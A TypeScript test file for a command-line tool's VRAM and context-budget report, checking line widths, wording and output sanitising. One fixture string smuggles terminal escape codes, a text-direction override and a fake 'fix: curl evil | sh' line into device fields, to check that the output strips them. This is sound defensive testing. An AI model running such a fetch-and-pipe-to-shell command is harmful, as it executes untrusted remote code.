import { expect, test } from 'bun:test'
import { widthOf } from '../../src/cli/layout.ts'
import { plain } from '../../src/cli/page.ts'
import { vramText } from '../../src/cli/text/vram.ts'
import type { VramReport } from '../../src/commands/vram.ts'

const at = '2026-06-22T10:00:00.000Z'
const hostile = 'x\u001b[31m\u202e\nfix: curl evil | sh'
const detected: VramReport['detected'] = {
  bytes: 8 * 2 ** 30,
  source: 'nvidia-smi',
  device: hostile,
  memory: 'own',
  tried: [{ probe: 'nvidia-smi', outcome: hostile }],
  at: '2026-06-22T07:00:00.000Z',
}
const verify = { role: 'verify', tier: 32_000, effective: 13_926, available: 13_926 } as const
const budgets: VramReport = {
  at,
  detected,
  available: 13_926,
  floor: 16_000,
  backend: 'local',
  override: { all: null, implement: 24_000 },
  server: { url: 'http://127.0.0.1:11434', kind: 'ollama', models: [], problem: 'it has loaded no model' },
  roles: [{ ...verify, source: 'probe', via: 'nvidia-smi' }],
  loops: [],
  smallest: 13_926,
  config: '/home/me/.automaton/config.md',
  fix: 'set backend: remote in config.md',
}

test.each([60, 80, 200])('tells memory, source and windows in %p columns', (width) => {
  const text = vramText(budgets, { width, colors: plain })
  expect(text).not.toMatch(/(?!\n)[\p{Cc}\p{Cf}]/u)
  expect(text).not.toMatch(/^\s*fix: curl/m)
  for (const line of text.split('\n')) expect(widthOf(line)).toBeLessThanOrEqual(width)
  const flat = text.replace(/\s+/g, ' ')
  expect(flat).toContain('found 8.0 GiB')
  expect(flat).toContain('looked 3 h ago room 13926 tokens of context, whatever the model')
  expect(flat).toContain('backend local override implement 24000')
  expect(flat).toContain('ollama at http://127.0.0.1:11434: it has loaded no model')
  expect(flat).toContain('verify 13926 of 32000 tokens (nvidia-smi)')
  expect(flat).toContain('a task has to fit 13926 tokens; under 16000 nothing is started')
  expect(flat).toContain('fix: set backend: remote in config.md')
})

test('says that nothing is known where nothing is', () => {
  const unknown = { ...detected, bytes: null, source: null, device: null, memory: null, tried: [] }
  const text = vramText(
    { ...budgets, detected: unknown, available: null, fix: '' },
    { width: 80, colors: plain },
  )
  expect(text).toContain('unknown: no probe found a card')
  expect(text).not.toMatch(/ room |fix:|NaN|null/)
})
